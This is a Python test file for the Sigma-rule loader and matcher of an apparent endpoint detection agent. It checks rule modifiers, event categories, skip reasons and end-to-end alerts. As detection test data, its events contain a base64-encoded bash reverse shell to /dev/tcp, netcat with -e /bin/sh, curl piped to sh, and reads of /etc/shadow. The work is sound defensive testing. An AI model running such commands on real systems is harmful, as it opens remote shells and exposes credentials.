"""Sigma rules: conversion into our condition tree, matching, skip reasons, import-sigma, and end to end.

The rules under tests/rules/sigma/ were written for these tests in SigmaHQ format:
supported/ covers every modifier and condition form we support (one rule each),
unsupported/ holds one rule per reason a rule is skipped, e2e/ is loaded by a real agent.
Unit tests build Event objects directly (pure logic); the kernel tests at the end run the real agent.
"""

from __future__ import annotations

import io
import ipaddress
import os
import socket
import subprocess
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from conftest import AgentHandle, alert_rule, alert_techniques, start_agent, stop_agent
from sentinel_edge.model import Event, ProcessInfo
from sentinel_edge.rules.ast import And, Compare, Field, Or
from sentinel_edge.rules.compiler import CompiledRule
from sentinel_edge.rules.model import Attack
from sentinel_edge.rules.sigma import _attack, import_sigma_main, load_sigma

HERE = Path(__file__).parent / "sigma"
SUPPORTED = HERE / "supported"
UNSUPPORTED = HERE / "unsupported"
E2E = HERE / "e2e"

AF_INET, AF_INET6 = 2, 10
O_WRONLY, O_CREAT, O_TRUNC = 0o1, 0o100, 0o1000
FILE_OPEN, FILE_UNLINK, FILE_RENAME, FILE_UTIMES = 1, 2, 3, 8
NET_CONNECT, NET_CONNECT_DONE, NET_ACCEPT = 2, 3, 4
EINPROGRESS = 115


# ------------------------------------------------------------------ events built directly

def info(exe: str, argv: list[str], *, pid: int = 4242, ppid: int = 4241, cwd: str = "/home/alice",
         user: str = "alice", uid: int = 1000) -> ProcessInfo:
    return ProcessInfo(pid=pid, start_ns=1, exec_id=f"x{pid}", parent_exec_id=f"x{ppid}", ppid=ppid,
                       comm=Path(exe).name[:15], exe=exe, cmdline=argv, cwd=cwd, uid=uid, euid=uid, gid=uid,
                       user=user, loginuid=uid)


PARENT = info("/usr/bin/bash", ["bash"], pid=4241, ppid=1, cwd="/home/alice")


def _event(kind: str, type_id: int, data: dict[str, Any], process: ProcessInfo,
           parent: ProcessInfo | None) -> Event:
    proc = {"pid": process.pid, "tid": process.pid, "ppid": process.ppid, "uid": process.uid,
            "euid": process.uid, "gid": process.gid, "egid": process.gid, "loginuid": process.loginuid,
            "comm": process.comm.encode()}
    return Event(kind=kind, type_id=type_id, ts_ns=1, cpu=0, proc=proc, data=data, process=process,
                 parent=parent, ancestry=[parent] if parent is not None else [])


def exec_ev(exe: str, argv: list[str] | str, *, parent: ProcessInfo | None = PARENT, cwd: str = "/home/alice",
            user: str = "alice") -> Event:
    args = argv.split(" ") if isinstance(argv, str) else argv
    return _event("exec", 1, {"argc": len(args)}, info(exe, args, cwd=cwd, user=user), parent)


def file_ev(op: int, path: str, *, open_flags: int = 0, ret: int = 0, path2: str = "",
            exe: str = "/usr/bin/cp", argv: str = "cp a b") -> Event:
    data = {"op": op, "ret": ret, "syscall_nr": 0, "dirfd": -100, "open_flags": open_flags, "mode": 0o644,
            "uid": 0, "gid": 0, "flags": 0, "dev": 0, "ino": 0, "size": 0, "path": path.encode(),
            "path2": path2.encode(), "base": b"", "base2": b"", "resolved": b"", "xattr_name": b"",
            "dirfd2": -100, "resolve": 0}
    return _event("file", 10, data, info(exe, argv.split(" ")), PARENT)


def _addr(ip: str) -> bytes:
    return ipaddress.ip_address(ip).packed.ljust(16, b"\0")


def net_ev(op: int, *, local: tuple[str, int], remote: tuple[str, int], ret: int = 0, proto: int = 6,
           exe: str = "/usr/bin/python3", argv: str = "python3 client.py") -> Event:
    family = AF_INET6 if ":" in local[0] else AF_INET
    data = {"op": op, "ret": ret, "fd": 3, "family": family, "sock_type": 1 if proto == 6 else 2,
            "protocol": proto, "sport": local[1], "dport": remote[1], "old_state": 0, "new_state": 0,
            "saddr": _addr(local[0]), "daddr": _addr(remote[0]), "cookie": 7, "backlog": 0, "flags": 0,
            "owner_pid": 0, "bytes": 0, "unix_path": b""}
    return _event("net", 20, data, info(exe, argv.split(" ")), PARENT)


# ------------------------------------------------------------------ the loaded test rules

@pytest.fixture(scope="module")
def rules() -> dict[str, CompiledRule]:
    loaded = load_sigma([SUPPORTED])
    assert loaded.skipped == [], loaded.skipped
    return {r.meta.id.removeprefix("sigma.5e000000-0000-4000-8000-0000000000"): r for r in loaded.rules}


def fires(rules: dict[str, CompiledRule], num: str, ev: Event) -> bool:
    r = rules[num]
    assert r.kinds is None or ev.kind in r.kinds or not r.match(ev), "kinds must cover what can match"
    return r.match(ev)


def test_every_supported_file_loads(rules: dict[str, CompiledRule]) -> None:
    files = {str(p) for p in SUPPORTED.glob("*.yml")}
    assert {r.meta.file for r in rules.values()} == files
    assert len(rules) == 36  # one file also holds a filter document, which is not a rule


def test_meta_from_sigma(rules: dict[str, CompiledRule]) -> None:
    r = rules["01"]
    assert r.meta.id == "sigma.5e000000-0000-4000-8000-000000000001"
    assert r.meta.title == "Test contains"
    assert r.meta.source == "sigma"
    assert r.meta.severity == "medium"
    assert r.meta.description.startswith("CommandLine|contains")
    assert r.meta.attack == (Attack("T1105", "command-and-control"),)
    assert r.meta.line == 1
    assert r.kinds == frozenset({"exec"})
    assert rules["02"].meta.severity == "high"
    meta = rules["37"].meta
    assert meta.severity == "info"  # informational
    assert meta.attack == (Attack("T1543.002", "persistence"), Attack("T1543.002", "privilege-escalation"))
    assert "car.2013-01-002" in meta.tags
    assert meta.description == "Several tactics before the techniques."


def test_render_names_the_process(rules: dict[str, CompiledRule]) -> None:
    ev = exec_ev("/usr/bin/curl", "curl http://x/y")
    msg = rules["01"].render(ev)
    assert msg.startswith("Test contains: proc=/usr/bin/curl cmd=curl http://x/y pid=4242 parent=/usr/bin/bash")
    fmsg = rules["30"].render(file_ev(FILE_OPEN, "/etc/cron.d/job", open_flags=O_WRONLY | O_CREAT, ret=3))
    assert "file=/etc/cron.d/job" in fmsg


def test_attack_pairs_interleaved_and_groups() -> None:
    tags = ["attack.defense-evasion", "attack.t1070.002", "attack.persistence", "attack.t1543", "attack.g0032",
            "attack.s0002", "cve.2021-3156"]
    assert _attack(tags) == (Attack("T1070.002", "defense-evasion"), Attack("T1543", "persistence"))
    assert _attack(["attack.credential_access", "attack.t1003.008"]) == (Attack("T1003.008", "credential-access"),)
    assert _attack(["attack.t1059"]) == (Attack("T1059", ""),)
    assert _attack(["attack.execution"]) == ()


# ------------------------------------------------------------------ modifiers

def test_contains_is_case_insensitive(rules: dict[str, CompiledRule]) -> None:
    assert fires(rules, "01", exec_ev("/usr/bin/curl", "curl http://evil/x"))
    assert fires(rules, "01", exec_ev("/usr/bin/CURL", "CURL http://evil/x"))
    assert not fires(rules, "01", exec_ev("/usr/bin/curly", "curly-braces"))


def test_startswith(rules: dict[str, CompiledRule]) -> None:
    assert fires(rules, "02", exec_ev("/tmp/x/payload", "payload"))
    assert fires(rules, "02", exec_ev("/TMP/payload", "payload"))
    assert not fires(rules, "02", exec_ev("/var/tmp/payload", "payload"))


def test_endswith_list_is_or(rules: dict[str, CompiledRule]) -> None:
    assert fires(rules, "03", exec_ev("/usr/bin/nc", "nc -l 4444"))
    assert fires(rules, "03", exec_ev("/usr/bin/socat", "socat - tcp:x:1"))
    assert not fires(rules, "03", exec_ev("/usr/bin/ncdu", "ncdu"))
    node = _rule_tree(SUPPORTED / "mod_endswith_list.yml")
    grouped = [c for c in _compares(node) if isinstance(c.left, Field) and c.left.name == "proc.exe"]
    assert len(grouped) == 1 and grouped[0].op == "iendswith" and grouped[0].value == ("/nc", "/ncat", "/socat")


def test_all_is_and(rules: dict[str, CompiledRule]) -> None:
    assert fires(rules, "04", exec_ev("/usr/bin/nc", "nc -e /bin/sh 10.0.0.1 4444"))
    assert not fires(rules, "04", exec_ev("/usr/bin/nc", "nc -e /bin/bash 10.0.0.1 4444"))
    assert not fires(rules, "04", exec_ev("/usr/bin/ls", "ls /bin/sh"))


def test_re_is_case_sensitive_search(rules: dict[str, CompiledRule]) -> None:
    assert fires(rules, "05", exec_ev("/usr/bin/chmod", "chmod 4755 /tmp/x"))
    assert not fires(rules, "05", exec_ev("/usr/bin/chmod", "chmod 0644 /tmp/x"))
    assert not fires(rules, "05", exec_ev("/usr/bin/chmod", "CHMOD 4755 /tmp/x"))


def test_re_i(rules: dict[str, CompiledRule]) -> None:
    assert fires(rules, "06", exec_ev("/usr/bin/mysql", "mysql PASSWORD=hunter2"))
    assert fires(rules, "06", exec_ev("/usr/bin/mysql", "mysql password=hunter2"))
    assert not fires(rules, "06", exec_ev("/usr/bin/mysql", "mysql password= x"))


def test_re_m(rules: dict[str, CompiledRule]) -> None:
    # an argument with a newline: ^ and $ match at line boundaries only with m
    assert fires(rules, "07", exec_ev("/usr/bin/sh", ["sh", "-c", "true\nexec payload\nfalse"]))
    assert not fires(rules, "07", exec_ev("/usr/bin/sh", ["sh", "-c", "true; exec payload; false"]))


def test_re_s(rules: dict[str, CompiledRule]) -> None:
    assert fires(rules, "08", exec_ev("/usr/bin/sh", ["sh", "-c", "BEGIN\nx\nEND"]))
    assert fires(rules, "08", exec_ev("/usr/bin/sh", ["sh", "-c", "BEGIN x END"]))
    assert not fires(rules, "08", exec_ev("/usr/bin/sh", ["sh", "-c", "begin x end"]))


def test_cidr_v4_and_v6(rules: dict[str, CompiledRule]) -> None:
    assert fires(rules, "09", net_ev(NET_CONNECT, local=("192.168.1.5", 50000), remote=("10.1.2.3", 443)))
    assert fires(rules, "09", net_ev(NET_CONNECT, local=("fd00::5", 50000), remote=("fd12::1", 443)))
    assert not fires(rules, "09", net_ev(NET_CONNECT, local=("192.168.1.5", 50000), remote=("11.1.2.3", 443)))
    # inbound: the destination is the local side
    assert not fires(rules, "09", net_ev(NET_ACCEPT, local=("192.168.1.5", 22), remote=("10.1.2.3", 5000)))


def test_base64_is_case_sensitive(rules: dict[str, CompiledRule]) -> None:
    assert fires(rules, "10", exec_ev("/usr/bin/sh", "sh -c echo c2VjcmV0 | base64 -d"))
    assert not fires(rules, "10", exec_ev("/usr/bin/sh", "sh -c echo C2VJCMV0 | base64 -d"))


def test_base64offset_matches_every_offset(rules: dict[str, CompiledRule]) -> None:
    import base64

    for prefix in ("", "x", "xy"):
        blob = base64.b64encode((prefix + "/bin/bash -i >& /dev/tcp/1.2.3.4/9 0>&1").encode()).decode()
        assert fires(rules, "11", exec_ev("/usr/bin/sh", f"sh -c echo {blob}|base64 -d|sh")), prefix
    benign = base64.b64encode(b"/bin/bash --version").decode()
    assert not fires(rules, "11", exec_ev("/usr/bin/sh", f"sh -c echo {benign}"))


def test_windash(rules: dict[str, CompiledRule]) -> None:
    assert fires(rules, "12", exec_ev("/usr/bin/find", "find . -exec rm {} ;"))
    assert fires(rules, "12", exec_ev("/usr/bin/find", "find . /exec rm {} ;"))
    assert fires(rules, "12", exec_ev("/usr/bin/find", "find . \u2013exec rm {} ;"))  # en dash
    assert not fires(rules, "12", exec_ev("/usr/bin/find", "find . -execdir rm {} ;"))


def test_exists_true_and_false(rules: dict[str, CompiledRule]) -> None:
    assert fires(rules, "13", exec_ev("/opt/orphan-probe", "orphan-probe", parent=None))
    assert not fires(rules, "13", exec_ev("/opt/orphan-probe", "orphan-probe"))  # has a parent
    no_cwd = exec_ev("/opt/orphan-probe", "orphan-probe", parent=None)
    assert no_cwd.process is not None
    no_cwd.process.cwd = None
    assert not fires(rules, "13", no_cwd)


def test_cased(rules: dict[str, CompiledRule]) -> None:
    assert fires(rules, "14", exec_ev("/usr/bin/x", "x --SeCrEt"))
    assert not fires(rules, "14", exec_ev("/usr/bin/x", "x --secret"))


def test_fieldref(rules: dict[str, CompiledRule]) -> None:
    py_parent = info("/usr/bin/python3", ["python3", "a.py"], pid=10, ppid=1)
    assert fires(rules, "15", exec_ev("/usr/bin/python3", "python3 b.py", parent=py_parent))
    assert fires(rules, "15", exec_ev("/USR/bin/python3", "python3 b.py", parent=py_parent))  # case-insensitive
    assert not fires(rules, "15", exec_ev("/usr/bin/python3", "python3 b.py"))  # parent is bash
    assert not fires(rules, "15", exec_ev("/usr/bin/python3", "python3 b.py", parent=None))


def test_fieldref_contains(rules: dict[str, CompiledRule]) -> None:
    assert fires(rules, "16", exec_ev("/usr/bin/tar", "tar czf /tmp/a.tgz /srv/data", cwd="/srv/data"))
    assert not fires(rules, "16", exec_ev("/usr/bin/tar", "tar czf /tmp/a.tgz /etc", cwd="/srv/data"))


def test_numbers_and_ranges(rules: dict[str, CompiledRule]) -> None:
    local = ("10.0.0.2", 40000)
    assert fires(rules, "17", net_ev(NET_CONNECT, local=local, remote=("1.2.3.4", 4444)))
    assert fires(rules, "17", net_ev(NET_CONNECT, local=local, remote=("1.2.3.4", 1337)))  # '1337' as text
    assert fires(rules, "17", net_ev(NET_CONNECT, local=local, remote=("1.2.3.4", 31000)))
    assert fires(rules, "17", net_ev(NET_CONNECT, local=local, remote=("1.2.3.4", 31009)))
    assert not fires(rules, "17", net_ev(NET_CONNECT, local=local, remote=("1.2.3.4", 31010)))
    assert not fires(rules, "17", net_ev(NET_CONNECT, local=local, remote=("1.2.3.4", 443)))
    assert rules["17"].meta.attack == (Attack("T1571", "command-and-control"),)


def test_wildcards_and_escapes(rules: dict[str, CompiledRule]) -> None:
    assert fires(rules, "18", exec_ev("/usr/local/bin/python3.9", "python3.9"))
    assert fires(rules, "18", exec_ev("/usr/bin/Python3.1", "python3.1"))
    assert not fires(rules, "18", exec_ev("/usr/bin/python3.11", "python3.11"))  # ? is one character
    assert not fires(rules, "18", exec_ev("/opt/bin/python3.9", "python3.9"))
    assert fires(rules, "18", exec_ev("/usr/bin/echo", "echo lit*er?al"))  # escaped: literal * and ?
    assert not fires(rules, "18", exec_ev("/usr/bin/echo", "echo litXXerXal"))


def test_null_value(rules: dict[str, CompiledRule]) -> None:
    assert fires(rules, "19", exec_ev("/opt/null-probe", "null-probe", parent=None))
    no_args_parent = info("/usr/bin/bash", [], pid=10, ppid=1)
    assert fires(rules, "19", exec_ev("/opt/null-probe", "null-probe", parent=no_args_parent))  # empty
    assert not fires(rules, "19", exec_ev("/opt/null-probe", "null-probe"))


def test_keywords_search_the_command_line(rules: dict[str, CompiledRule]) -> None:
    assert fires(rules, "20", exec_ev("/usr/bin/x", "x --EVIL-keyword"))
    assert fires(rules, "20", exec_ev("/usr/bin/x", "x second-and-word"))
    assert fires(rules, "20", exec_ev("/opt/evil-keyword/run", "run"))  # the image is searched too
    assert not fires(rules, "20", exec_ev("/usr/bin/x", "x evil keyword"))


def test_list_of_maps(rules: dict[str, CompiledRule]) -> None:
    assert fires(rules, "21", exec_ev("/usr/bin/wget", "wget -O- http://x"))
    assert fires(rules, "21", exec_ev("/usr/bin/curl", "curl http://x | sh"))
    assert not fires(rules, "21", exec_ev("/usr/bin/curl", "curl -O- http://x"))
    assert not fires(rules, "21", exec_ev("/usr/bin/wget", "wget http://x | sh"))


def test_all_of_selection_pattern(rules: dict[str, CompiledRule]) -> None:
    assert fires(rules, "22", exec_ev("/usr/bin/ssh-keygen", "ssh-keygen -y -f id_rsa"))
    assert not fires(rules, "22", exec_ev("/usr/bin/ssh-keygen", "ssh-keygen -t ed25519"))


def test_one_of_and_all_of_them(rules: dict[str, CompiledRule]) -> None:
    only_a = exec_ev("/usr/bin/x", "x alpha-token")
    both = exec_ev("/usr/bin/x", "x alpha-token beta-token")
    neither = exec_ev("/usr/bin/x", "x gamma")
    assert fires(rules, "23", only_a) and fires(rules, "23", both) and not fires(rules, "23", neither)
    assert not fires(rules, "24", only_a) and fires(rules, "24", both) and not fires(rules, "24", neither)


def test_not_and_parentheses(rules: dict[str, CompiledRule]) -> None:
    cron = info("/usr/sbin/cron", ["cron"], pid=10, ppid=1)
    assert fires(rules, "25", exec_ev("/usr/bin/bash", "bash"))
    assert fires(rules, "25", exec_ev("/usr/bin/dash", "dash"))
    assert not fires(rules, "25", exec_ev("/usr/bin/bash", "bash", parent=cron))
    assert not fires(rules, "25", exec_ev("/usr/bin/zsh", "zsh"))
    assert fires(rules, "25", exec_ev("/usr/bin/dash", "dash", parent=None))  # unknown parent: not filtered


def test_condition_list_is_or(rules: dict[str, CompiledRule]) -> None:
    assert fires(rules, "26", exec_ev("/usr/bin/x", "x first-cond"))
    assert fires(rules, "26", exec_ev("/usr/bin/x", "x second-cond"))
    assert not fires(rules, "26", exec_ev("/usr/bin/x", "x third-cond"))


def test_neq(rules: dict[str, CompiledRule]) -> None:
    assert fires(rules, "27", exec_ev("/usr/bin/crontab", "crontab -e", user="alice"))
    assert not fires(rules, "27", exec_ev("/usr/bin/crontab", "crontab -e", user="root"))


def test_filter_document_is_applied(rules: dict[str, CompiledRule]) -> None:
    backup = info("/opt/backup-agent", ["backup-agent"], pid=10, ppid=1)
    assert fires(rules, "38", exec_ev("/usr/sbin/useradd", "useradd eve"))
    assert not fires(rules, "38", exec_ev("/usr/sbin/useradd", "useradd eve", parent=backup))


# ------------------------------------------------------------------ categories

def test_process_creation_only_matches_exec(rules: dict[str, CompiledRule]) -> None:
    ev = file_ev(FILE_OPEN, "/tmp/x", exe="/tmp/payload", argv="payload")
    assert not fires(rules, "02", ev)


def test_file_event_is_an_open_for_writing(rules: dict[str, CompiledRule]) -> None:
    assert rules["30"].kinds == frozenset({"file"})
    assert fires(rules, "30", file_ev(FILE_OPEN, "/etc/cron.d/job", open_flags=O_WRONLY | O_CREAT, ret=3))
    assert fires(rules, "30", file_ev(FILE_OPEN, "/etc/cron.d/job", open_flags=O_WRONLY | O_TRUNC, ret=3))
    assert not fires(rules, "30", file_ev(FILE_OPEN, "/etc/cron.d/job", open_flags=0, ret=3))  # read
    assert not fires(rules, "30", file_ev(FILE_OPEN, "/etc/cron.d/job", open_flags=O_WRONLY, ret=-13))  # EACCES
    assert not fires(rules, "30", file_ev(FILE_UNLINK, "/etc/cron.d/job"))
    assert not fires(rules, "30", file_ev(FILE_OPEN, "/etc/crontab", open_flags=O_WRONLY, ret=3))


def test_file_delete(rules: dict[str, CompiledRule]) -> None:
    assert fires(rules, "31", file_ev(FILE_UNLINK, "/home/alice/.bash_history"))
    assert not fires(rules, "31", file_ev(FILE_UNLINK, "/home/alice/.bash_history", ret=-2))
    assert not fires(rules, "31", file_ev(FILE_OPEN, "/home/alice/.bash_history", open_flags=O_TRUNC, ret=3))


def test_file_rename_source_and_target(rules: dict[str, CompiledRule]) -> None:
    assert fires(rules, "32", file_ev(FILE_RENAME, "/srv/a.tmp", path2="/srv/a.locked"))
    assert not fires(rules, "32", file_ev(FILE_RENAME, "/srv/a.locked", path2="/srv/a.tmp"))
    assert not fires(rules, "32", file_ev(FILE_RENAME, "/srv/a.txt", path2="/srv/a.locked"))


def test_file_change_is_utimes(rules: dict[str, CompiledRule]) -> None:
    assert fires(rules, "33", file_ev(FILE_UTIMES, "/usr/bin/ls", exe="/usr/bin/touch", argv="touch -r a b"))
    assert not fires(rules, "33", file_ev(FILE_OPEN, "/usr/bin/ls", open_flags=O_WRONLY, ret=3))


def test_file_access_any_open(rules: dict[str, CompiledRule]) -> None:
    assert fires(rules, "34", file_ev(FILE_OPEN, "/etc/shadow", ret=3, exe="/usr/bin/cat", argv="cat /etc/shadow"))
    assert not fires(rules, "34", file_ev(FILE_OPEN, "/etc/shadow", ret=3, exe="/usr/bin/passwd", argv="passwd"))
    assert not fires(rules, "34", file_ev(FILE_OPEN, "/etc/passwd", ret=3, exe="/usr/bin/cat", argv="cat"))


def test_network_inbound_swaps_source_and_destination(rules: dict[str, CompiledRule]) -> None:
    # accepted from 192.168.1.9 on our port 2222: Sysmon's destination is the local side
    assert fires(rules, "35", net_ev(NET_ACCEPT, local=("10.0.0.2", 2222), remote=("192.168.1.9", 50123)))
    assert not fires(rules, "35", net_ev(NET_ACCEPT, local=("10.0.0.2", 2223), remote=("192.168.1.9", 50123)))
    assert not fires(rules, "35", net_ev(NET_ACCEPT, local=("10.0.0.2", 2222), remote=("172.16.1.9", 50123)))
    # outbound to port 2222 is not inbound
    assert not fires(rules, "35", net_ev(NET_CONNECT, local=("192.168.1.9", 50123), remote=("10.0.0.2", 2222)))


def test_network_outbound_once_per_connection(rules: dict[str, CompiledRule]) -> None:
    local, remote = ("fd00::2", 50000), ("fd00::1", 443)
    assert fires(rules, "36", net_ev(NET_CONNECT, local=local, remote=remote))
    # a non-blocking connect matches when it completes, not while in progress
    assert not fires(rules, "36", net_ev(NET_CONNECT, local=local, remote=remote, ret=-EINPROGRESS))
    assert fires(rules, "36", net_ev(NET_CONNECT_DONE, local=local, remote=remote))
    assert not fires(rules, "36", net_ev(NET_CONNECT, local=("10.0.0.2", 50000), remote=("10.0.0.1", 443)))
    assert not fires(rules, "36", net_ev(NET_CONNECT, local=local, remote=remote, proto=17))  # udp


# ------------------------------------------------------------------ unsupported rules: every one has a reason

EXPECTED_REASONS = {
    "product_windows.yml": "logsource product 'windows' is not linux",
    "service_auditd.yml": "logsource service 'auditd'",
    "category_unknown.yml": "logsource category 'dns_query' is not observed",
    "field_unknown.yml": "field 'FooBar' has no SentinelEdge equivalent",
    "field_hostname.yml": "field 'DestinationHostname' is not available: SentinelEdge sees sockets, not host names",
    "field_hashes.yml": "field 'Hashes' is not available",
    "mod_wide.yml": "modifier 'wide'",
    "mod_expand.yml": "modifier 'expand'",
    "mod_hour.yml": "modifier 'hour'",
    "status_unsupported.yml": "status 'unsupported'",
    "bad_yaml.yml": "YAML syntax error at line 9, column 5",
    "bad_condition.yml": "Detection 'filter' not defined",
    "pipe_condition.yml": "pipe syntax",
    "cidr_not_ip.yml": "cidr on field 'Image', which is not an IP address",
    "port_wildcard.yml": "field 'DestinationPort' is numeric",
    "unknown_modifier.yml": "Unknown modifier 'sounds_like'",
}


def test_unsupported_rules_are_reported_with_reasons() -> None:
    loaded = load_sigma([UNSUPPORTED])
    assert loaded.rules == []
    by_file: dict[str, list[str]] = {}
    for file, reason in loaded.skipped:
        by_file.setdefault(Path(file).name, []).append(reason)
    for name, expected in EXPECTED_REASONS.items():
        assert any(expected in r for r in by_file.get(name, [])), (name, by_file.get(name))
    corr = by_file["correlation.yml"]
    assert any("correlation rule (event_count) is not supported" in r for r in corr)
    assert any("only an input of a correlation rule" in r for r in corr)
    # nothing dropped silently: every file of the directory is accounted for
    assert set(by_file) == {p.name for p in UNSUPPORTED.glob("*.yml")}


def test_missing_path_and_empty_file(tmp_path: Path) -> None:
    empty = tmp_path / "empty.yml"
    empty.write_text("")
    not_a_rule = tmp_path / "list.yaml"
    not_a_rule.write_text("- a\n- b\n")
    loaded = load_sigma([tmp_path / "nope", empty, not_a_rule])
    reasons = dict(loaded.skipped)
    assert reasons[str(tmp_path / "nope")] == "no such file or directory"
    assert reasons[str(empty)] == "no Sigma rule in this file"
    assert str(not_a_rule) in reasons


def test_duplicate_ids_are_skipped(tmp_path: Path) -> None:
    text = (SUPPORTED / "mod_contains.yml").read_text()
    (tmp_path / "a.yml").write_text(text)
    (tmp_path / "b.yml").write_text(text)
    loaded = load_sigma([tmp_path])
    assert len(loaded.rules) == 1
    assert loaded.skipped == [(str(tmp_path / "b.yml"),
                               f"duplicate Sigma id sigma.5e000000-0000-4000-8000-000000000001 "
                               f"(first in {tmp_path / 'a.yml'})")]


def test_import_sigma_main_reports_counts_and_reasons() -> None:
    out = io.StringIO()
    rc = import_sigma_main([str(SUPPORTED), str(UNSUPPORTED)], out)
    text = out.getvalue()
    assert rc == 0
    first = text.splitlines()[0]
    assert first == "loaded 36 of 54 Sigma rules", text
    assert "process_creation: 27" in text and "network_connection: 4" in text
    assert "skipped 18:" in text
    assert "  1 x field 'Hashes' is not available: SentinelEdge does not hash executables" in text
    assert f"{UNSUPPORTED / 'bad_yaml.yml'}: YAML syntax error at line 9" in text


def test_import_sigma_main_fails_when_nothing_loads() -> None:
    out = io.StringIO()
    assert import_sigma_main([str(UNSUPPORTED)], out) == 1
    assert out.getvalue().startswith("loaded 0 of 18 Sigma rules")


# ------------------------------------------------------------------ helpers for tree checks

def _rule_tree(path: Path) -> Any:
    """The condition tree of the only rule of a file (through the public loader's compile step)."""
    import sentinel_edge.rules.sigma as sg

    captured: list[Any] = []
    real = sg.compile_condition

    def spy(node: Any) -> Any:
        captured.append(node)
        return real(node)

    sg.compile_condition = spy  # type: ignore[assignment]
    try:
        loaded = load_sigma([path])
    finally:
        sg.compile_condition = real  # type: ignore[assignment]
    assert len(loaded.rules) == 1 and len(captured) == 1
    return captured[0]


def _compares(node: Any) -> Iterator[Compare]:
    if isinstance(node, Compare):
        yield node
    elif isinstance(node, And | Or):
        for it in node.items:
            yield from _compares(it)
    elif hasattr(node, "item"):
        yield from _compares(node.item)


# ------------------------------------------------------------------ end to end: a real agent, real processes

@pytest.fixture(scope="module")
def sigma_agent(tmp_path_factory: pytest.TempPathFactory) -> Iterator[AgentHandle]:
    if os.geteuid() != 0:
        pytest.skip("needs root")
    tmp = tmp_path_factory.mktemp("sigma-agent")
    handle = start_agent(tmp, extra=["--sigma", str(E2E)], alerts=True)
    try:
        yield handle
    finally:
        stop_agent(handle)


@pytest.mark.kernel
def test_e2e_process_creation_rule_fires(sigma_agent: AgentHandle) -> None:
    rule_id = "sigma.5e000000-0000-4000-8000-000000000201"
    since = sigma_agent.alert_mark()
    p = subprocess.run(["/bin/echo", "se-sigma-e2e", "marker-5b1c"], capture_output=True, timeout=10, check=True)
    assert p.stdout == b"se-sigma-e2e marker-5b1c\n"
    alert = sigma_agent.wait_alert(rule_id, since, timeout=15)
    assert alert_rule(alert) == rule_id
    assert "T1059.004" in alert_techniques(alert)
    assert alert.get("finding_info", {}).get("title") == "E2E - marked echo executed"
    # near miss: the same program without the marker raises nothing
    since = sigma_agent.alert_mark()
    subprocess.run(["/bin/echo", "se-sigma-e2e", "other"], capture_output=True, timeout=10, check=True)
    sigma_agent.assert_no_alert(rule_id, since, settle=1.5)


@pytest.mark.kernel
def test_e2e_file_event_rule_fires(sigma_agent: AgentHandle, tmp_path: Path) -> None:
    rule_id = "sigma.5e000000-0000-4000-8000-000000000202"
    since = sigma_agent.alert_mark()
    target = tmp_path / "se-sigma-e2e-payload.dropped"
    target.write_bytes(b"x")
    alert = sigma_agent.wait_alert(rule_id, since, timeout=15)
    assert "T1105" in alert_techniques(alert)
    assert str(target) in str(alert.get("message", "")) or str(target) in str(alert)
    # near miss: reading it back is not a file_event
    since = sigma_agent.alert_mark()
    assert target.read_bytes() == b"x"
    (tmp_path / "se-sigma-e2e-payload.txt").write_bytes(b"y")
    sigma_agent.assert_no_alert(rule_id, since, settle=1.5)


@pytest.mark.kernel
def test_e2e_network_connection_rule_fires(sigma_agent: AgentHandle) -> None:
    rule_id = "sigma.5e000000-0000-4000-8000-000000000203"
    server = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    try:
        port = 0
        for candidate in range(39150, 39160):
            try:
                server.bind(("127.0.0.1", candidate))
                port = candidate
                break
            except OSError:
                continue
        if not port:
            pytest.skip("no free port in 39150-39159")
        server.listen(4)
        since = sigma_agent.alert_mark()
        with socket.create_connection(("127.0.0.1", port), timeout=5):
            conn, _ = server.accept()
            conn.close()
        alert = sigma_agent.wait_alert(rule_id, since, timeout=15)
        assert "T1571" in alert_techniques(alert)
        # near miss: a port outside the range
        other = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        other.bind(("127.0.0.1", 0))
        other.listen(1)
        since = sigma_agent.alert_mark()
        with socket.create_connection(other.getsockname(), timeout=5):
            c2, _ = other.accept()
            c2.close()
        other.close()
        deadline = time.monotonic() + 1.5
        while time.monotonic() < deadline:
            time.sleep(0.1)
        sigma_agent.assert_no_alert(rule_id, since, settle=0.5)
    finally:
        server.close()
